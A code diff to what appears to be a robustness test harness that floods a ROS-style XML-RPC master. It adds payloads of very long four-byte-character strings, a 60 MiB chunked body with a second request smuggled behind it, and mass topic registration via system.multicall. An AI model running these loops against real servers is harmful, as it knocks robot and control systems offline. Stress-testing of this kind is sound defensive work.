@@ -161,8 +161,11 @@ def huge_string(target: Target) -> None:
 
 
 def wide_characters(target: Target) -> None:
-    """setParam of a string of 15 million characters of which one needs four bytes."""
-    target.repeat(valued("\U0001f600".encode() + b"x" * (HUGE // 4), "/attack/wide"))
+    """setParam of strings of 15 million characters of which one, the first or the last, needs four bytes."""
+    wide, others = "\U0001f600".encode(), b"x" * (HUGE // 4)
+    while not target.is_over:
+        target.exchange(valued(wide + others, "/attack/wide"))
+        target.exchange(valued(others + wide, "/attack/wide"))
 
 
 def huge_tag(target: Target) -> None:
@@ -206,6 +209,18 @@ def many_structs(target: Target) -> None:
 def huge_base64(target: Target) -> None:
     """setParam of 60 MiB of base64."""
     target.repeat(valued(b"<base64>" + b"QUJD" * (HUGE // 4) + b"</base64>", "/attack/base64"))
+
+
+def huge_chunk(target: Target) -> None:
+    """Send a body of 60 MiB in one chunk, and one with the next request right behind it."""
+    body = valued(b"x" * HUGE, "/attack/string").partition(b"\r\n\r\n")[2]
+    chunked = b"POST / HTTP/1.1\r\nTransfer-Encoding: chunked\r\n\r\n%x\r\n%s\r\n0\r\n\r\n" % (
+        len(body),
+        body,
+    )
+    while not target.is_over:
+        target.exchange(chunked)
+        target.exchange(post(body) + called("getPid", "/bad"))
 
 
 def huge_number(target: Target) -> None:
@@ -294,6 +309,24 @@ def system_states(target: Target) -> None:
     change = called("registerPublisher", "/bad", "/attack/changing", "a/B", "http://127.0.0.1:9/")
     _side_by_side(
         [lambda: target.repeat(called("getSystemState", "/bad"))] * 10 + [lambda: target.repeat(change, 0.01)]
+    )
+
+
+def all_topics(target: Target) -> None:
+    """getTopicTypes and getPublishedTopics by ten clients, of as many topics as there may be."""
+    for first in range(0, 200_000, 5_000):
+        calls = [
+            {
+                "methodName": "registerPublisher",
+                "params": [f"/bad{first}", f"/attack/all/{number}", "a/B", f"http://127.0.0.1:9/{first}"],
+            }
+            for number in range(first, first + 5_000)
+        ]
+        if not target.is_over:
+            target.exchange(called("system.multicall", calls))
+    _side_by_side(
+        [lambda: target.repeat(called("getTopicTypes", "/bad"))] * 5
+        + [lambda: target.repeat(called("getPublishedTopics", "/bad", ""))] * 5
     )
 
 
@@ -387,6 +420,7 @@ ATTACKS: tuple[Callable[[Target], None], ...] = (
     many_elements,
     many_structs,
     huge_base64,
+    huge_chunk,
     huge_number,
     deep,
     whole_tree,
@@ -398,6 +432,7 @@ ATTACKS: tuple[Callable[[Target], None], ...] = (
     small_chunks,
     silent_connections,
     system_states,
+    all_topics,
     new_addresses,
     topic_subscribers,
     parameter_subscribers,
